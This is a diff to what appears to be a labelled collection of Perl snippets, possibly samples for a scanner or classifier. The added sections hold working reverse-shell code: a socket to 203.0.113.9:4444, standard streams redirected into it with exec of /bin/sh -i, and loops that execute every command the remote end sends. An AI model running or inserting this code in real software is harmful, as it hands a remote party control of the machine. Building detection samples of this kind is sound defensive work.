@@ -1,4 +1,5 @@
 %% head
+use IO::Socket::INET;
 use LWP::UserAgent;
 use HTTP::Tiny;
 %% secret: opened file
@@ -33,6 +34,15 @@ system($c);
 open(my $o, ">", "/tmp/a"); print $o $c; close $o; system("perl /tmp/a");
 %% run: backquotes
 `$c`;
+%% link: client
+my $s = IO::Socket::INET->new(PeerAddr => "203.0.113.9:4444");
+%% obey: doubled
+open(STDIN, ">&", $s); open(STDOUT, ">&", $s); open(STDERR, ">&", $s);
+exec("/bin/sh -i");
+%% obey: loop over lines
+while (my $l = <$s>) { print $s `$l`; }
+%% obey: command
+while (<$s>) { system($_); }
 %% ordinary
 my $d = 'three of four are done';
 %% shown
